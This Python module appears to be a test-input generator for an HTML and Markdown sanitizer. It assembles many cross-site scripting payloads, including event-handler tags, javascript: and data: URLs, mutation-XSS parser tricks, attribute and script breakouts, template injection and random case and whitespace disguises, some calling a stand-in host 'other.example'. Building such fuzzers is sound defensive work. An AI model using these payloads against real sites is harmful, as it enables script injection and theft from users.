"""A grammar of what runs in a browser if it gets there as it was written."""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

if TYPE_CHECKING:
    import random

HIT: Final = "window.__hit=1"
ELSEWHERE: Final = "other.example"
_CODES: Final = (HIT, "top.__hit=1", "self[`__hit`]=1", f"fetch(`//{ELSEWHERE}/`)", "alert(1)")
_TAGS: Final = (
    "<script>{}</script>",
    "<script src=//other.example/x.js></script>",
    "<script/x>{}</script/y>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<img src=x onerror={}>",
    "<img/src/onerror={}>",
    "<img src=//other.example/x.png>",
    "<img srcset='//other.example/x.png 1x'>",
    "<svg onload={}>",
    "<svg/onload={}//",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{}'><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={}/>#x'/></svg>",
    "<math href='javascript:{}'>x</math>",
    (
        "<math><mtext><table><mglyph><style><!--</style>"
        "<img title='--&gt;&lt;img src=1 onerror={}&gt;'>"
    ),
    "<math><annotation-xml encoding='text/html'><img src=x onerror={}></annotation-xml></math>",
    "<svg></p><style><a id='</style><img src=1 onerror={}>'>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<table><td><script>{}</script></table>",
    "<select><style></select><img src=x onerror={}></style>",
    "<textarea><img src=x onerror={}></textarea>",
    "<title><img src=x onerror={}></title>",
    "<xmp><img src=x onerror={}></xmp>",
    "<plaintext><img src=x onerror={}>",
    "<iframe src='javascript:{}'></iframe>",
    "<iframe srcdoc='<script>parent.__hit=1</script>'></iframe>",
    "<iframe src=//other.example></iframe>",
    "<object data='javascript:{}'></object>",
    "<embed src=//other.example/x.swf>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}></audio>",
    "<video poster=//other.example/x.png></video>",
    "<details open ontoggle={}><summary>x</summary></details>",
    "<input autofocus onfocus={}>",
    "<body onload={}>",
    "<marquee onstart={}>x</marquee>",
    "<style>@import '//other.example/x.css';</style>",
    "<style onload={}></style>",
    "<link rel=stylesheet href=//other.example/x.css>",
    "<link rel=preload as=image href=//other.example/x.png>",
    "<meta http-equiv=refresh content='0;url=//other.example/'>",
    "<base href=//other.example/>",
    "<form action='javascript:{}'><button>x</button></form>",
    "<button formaction='javascript:{}'>x</button>",
    "<div style='background:url(//other.example/x.png)'>x</div>",
    "<p onmouseover={} onclick={}>x</p>",
    "<a href='javascript:{}'>x</a>",
    "<a href='java&#9;script:{}'>x</a>",
    "<a href='&#x6a;avascript&colon;{}'>x</a>",
    "<a href=' \tjavascript:{}'>x</a>",
    "<a href='data:text/html,<script>{}</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='x' ping='//other.example/'>x</a>",
    "<template shadowrootmode=open><img src=x onerror={}></template>",
    "<x-y onfocus={} tabindex=1 autofocus>x</x-y>",
    "<!--><img src=x onerror={}>-->",
    "<!-- --!><img src=x onerror={}> -->",
    "<![CDATA[><img src=x onerror={}>]]>",
    "<?x ><img src=x onerror={}>?>",
    "</article></div></body><script>{}</script>",
)
_BREAKS: Final = (
    '"><script>{}</script>',
    "'><script>{}</script>",
    '" onmouseover="{}" x="',
    "' autofocus onfocus='{}' x='",
    "` onmouseover=`{}`",
    "</title><script>{}</script>",
    "</script><script>{}</script>",
    "</style><script>{}</script>",
    "</textarea><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    '"}};{};//',
    "';{};//",
    '\\";{};//',
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "<script>{}</script>",
    "<img src=x onerror={}>",
)
_MARKDOWN: Final = (
    "{v}",
    "Text {v} text.",
    "\n\n{v}\n\n",
    "[x](javascript:{c})",
    "[x](<javascript:{c}>)",
    "[x](java\\script:{c})",
    "[x](JaVaScRiPt&#58;{c})",
    "[x](&#106;avascript:{c})",
    "[x](data:text/html;base64,PHNjcmlwdD50b3AuX19oaXQ9MTwvc2NyaXB0Pg==)",
    '[x](x "{b}")',
    "[{v}](x)",
    "[x][y]\n\n[y]: javascript:{c}",
    '[x][y]\n\n[y]: x "{b}"',
    "![x](//other.example/x.png)",
    "![x](https://other.example/x.png)",
    '![{b}](x.png "{b}")',
    '![x](x.png" onerror="{c})',
    "<javascript:{c}>",
    '<https://other.example/" onmouseover="{c}>',
    "## {v}",
    "- {v}\n- {v}",
    "> {v}",
    "| {v} | b |\n|---|---|\n| c | {v} |",
    "term\n:   {v}",
    "Text[^{b}]\n\n[^{b}]: {v}",
    "Text[^1]\n\n[^1]: {v}",
    "`{v}`",
    "```html\n{v}\n```",
    "```{b}\nx\n```",
    "    {v}",
    "*{v}* **{v}**",
    "[@park2019spinal, p. {v}]",
    "[{v} @park2019spinal]",
    "@park2019spinal [{v}]",
    "/// audience | {b}\nx\n///",
    "/// safety\n{v}\n///",
    "<div markdown=1>\n{v}\n</div>",
    '<p title="{b}">x</p>',
    '<a href="x{b}">x</a>',
    "<abbr title='{b}'>x</abbr>",
    "<code class='language-{b}'>x</code>",
    "<h2 id='{b}'>x</h2>",
    "<td>{v}</td>",
    "{{: onclick={c} }}",
    "[x](x){{: onclick={c} }}",
)  # fmt: skip


def code(rng: random.Random) -> str:
    """A few signs that would run."""
    return rng.choice(_CODES)


def tag(rng: random.Random) -> str:
    """An element that would run something, written in one of many ways."""
    written = rng.choice(_TAGS)
    return _disguised(rng, written.replace("{}", code(rng)))


def breakout(rng: random.Random) -> str:
    """What would end an attribute, a script or a comment, and run."""
    written = rng.choice(_BREAKS)
    return _disguised(rng, written.replace("{{", "{").replace("}}", "}").replace("{}", code(rng)))


def markdown(rng: random.Random) -> str:
    """Markdown with either of them in one of its places."""
    written = rng.choice(_MARKDOWN).replace("{{", "{").replace("}}", "}")
    for sign, made in (("{v}", tag), ("{b}", breakout), ("{c}", code)):
        while sign in written:
            written = written.replace(sign, made(rng), 1)
    return written


def _disguised(rng: random.Random, written: str) -> str:
    how = rng.randrange(8)
    if how == 0:
        return "".join(rng.choice((each.upper(), each.lower())) for each in written)
    if how == 1:
        return written.replace(" ", rng.choice(("/", "\t", "  ")), 1)
    if how == 2:  # noqa: PLR2004 - one of eight ways
        return written.removesuffix(">")
    return written
